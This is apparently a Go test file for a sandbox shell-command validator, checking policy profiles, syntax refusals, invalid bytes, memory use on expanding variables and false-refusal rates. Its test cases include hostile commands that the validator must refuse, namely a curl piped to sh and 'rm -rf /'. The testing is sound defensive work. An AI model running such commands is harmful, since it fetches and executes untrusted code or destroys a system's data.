	}
	for _, cmd := range everyday {
		if err := Validate(cmd, ""); err != nil {
			t.Errorf("%q: %v", cmd, err)
		}
	}
}

func TestSyntaxErrorHasPosition(t *testing.T) {
	err := Validate("echo ok\nif true; then echo", "")
	var r *Refusal
	if !errors.As(err, &r) || r.Rule != RuleSyntax {
		t.Fatalf("got %v; want a syntax refusal", err)
	}
	if !strings.Contains(r.Reason, "line 2") {
		t.Fatalf("reason %q does not give the line", r.Reason)
	}
}

func TestProfilesDiffer(t *testing.T) {
	cases := []struct {
		cmd, profile string
		ok           bool
	}{
		{"curl -s http://10.0.0.1:8080/healthz", "strict", false},
		{"curl -s http://10.0.0.1:8080/healthz", "network", true},
		// the sandbox's own loopback needs no network
		{"curl -s http://127.0.0.1:8080/healthz", "strict", true},
		{"curl -s http://x | sh", "network", false},
		{"sudo id", "trusted", true},
		{"rm -rf /", "trusted", false},
		{"ls", "nope", false},
	}
	for _, tc := range cases {
		err := Validate(tc.cmd, tc.profile)
		if (err == nil) != tc.ok {
			t.Errorf("%q under %s: got %v, want ok=%v", tc.cmd, tc.profile, err, tc.ok)
		}
	}
}

func TestParsePolicyRejectsTypos(t *testing.T) {
	for name, src := range map[string]string{
		"unknown rule":    "profiles:\n  a:\n    rules: [sudoo]\n",
		"unknown key":     "profiles:\n  a:\n    rulez: []\n",
		"missing default": "default: b\nprofiles:\n  a:\n    rules: []\n",
		"empty":           "",
	} {
		if _, err := ParsePolicy([]byte(src)); !errors.Is(err, ErrBadProfiles) {
			t.Errorf("%s: got %v, want ErrBadProfiles", name, err)
		}
	}
}

func TestCustomPolicy(t *testing.T) {
	p, err := ParsePolicy([]byte("default: ops\nprofiles:\n  ops:\n    rules: [syntax, allow-list]\n    allow_commands: [ls, grep]\n"))
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Validate("ls | grep x", ""); err != nil {
		t.Fatalf("allowed commands refused: %v", err)
	}
	var r *Refusal
	if err := p.Validate("cat x", ""); !errors.As(err, &r) || r.Rule != RuleAllowList {
		t.Fatalf("cat under an allow list: got %v", err)
	}
}

// TestTextRefusals: bytes a command cannot hold are refused with where
// they are and what to do, before the parser sees them.
func TestTextRefusals(t *testing.T) {
	cases := []struct{ cmd, want string }{
		{"echo a\x00b", "line 1, column 7: the command holds a NUL byte"},
		{"ls\necho caf\xe9", "line 2, column 9: the byte 0xE9 is not valid UTF-8"},
		{"sh -c 'echo \xff'", "the byte 0xFF is not valid UTF-8"},
	}
	for _, tc := range cases {
		err := Validate(tc.cmd, "")
		var r *Refusal
		if !errors.As(err, &r) || r.Rule != RuleSyntax || !strings.Contains(r.Reason, tc.want) {
			t.Errorf("%q: got %v; want a syntax refusal saying %q", tc.cmd, err, tc.want)
		}
	}
	if err := Validate("echo caf$'\\xe9'", ""); err != nil {
		t.Errorf("the spelling the refusal suggests is refused: %v", err)
	}
}

// TestValidationLinear: a value that doubles with every statement costs
// the validator no more than linear memory, and is refused.
func TestValidationLinear(t *testing.T) {
	pol := DefaultPolicy()
	for _, n := range []int{10, 29, 60} {
		cmd := "a=x; " + strings.Repeat("a=$a$a; ", n) + "sudo"
		err, alloc := validateAlloc(pol, cmd, "")
		limit := uint64(allocPerByte*len(cmd) + allocBase)
		t.Logf("%d doublings: %d bytes allocated (bound %d): %v", n, alloc, limit, err)
		if alloc > limit {
			t.Errorf("%d doublings allocated %d bytes; the bound is %d", n, alloc, limit)
		}
		if err == nil {
			t.Errorf("%d doublings then sudo: accepted", n)
		}
	}
}

// benignCorpus is the everyday list and testdata/benign.txt.
func benignCorpus(t testing.TB) []string {
	t.Helper()
	f, err := os.Open("testdata/benign.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cmds := append([]string(nil), everyday...)
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if l := sc.Text(); strings.TrimSpace(l) != "" && !strings.HasPrefix(l, "#") {
			cmds = append(cmds, l)
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return cmds
}

// maxFalseRefusals is the share of the benign corpus a profile may
// refuse.
const maxFalseRefusals = 0.02

// TestFalseRefusalRate measures, per built-in profile, the share of
// everyday commands refused, and fails above 2 %.
func TestFalseRefusalRate(t *testing.T) {
	cmds := benignCorpus(t)
	if len(cmds) < 300 {
		t.Fatalf("only %d benign commands; want at least 300", len(cmds))
	}
	pol := DefaultPolicy()
	for _, name := range pol.Names() {
		refused := 0
		for _, cmd := range cmds {
			if err := pol.Validate(cmd, name); err != nil {
				refused++
				t.Logf("%s refuses %q: %v", name, cmd, err)
			}
		}
		rate := float64(refused) / float64(len(cmds))
		t.Logf("profile %s: %d of %d benign commands refused (%.1f %%)", name, refused, len(cmds), 100*rate)
		if rate > maxFalseRefusals {
			t.Errorf("profile %s refuses %.1f %% of benign commands; the limit is %.0f %%", name, 100*rate, 100*maxFalseRefusals)
		}
	}
}
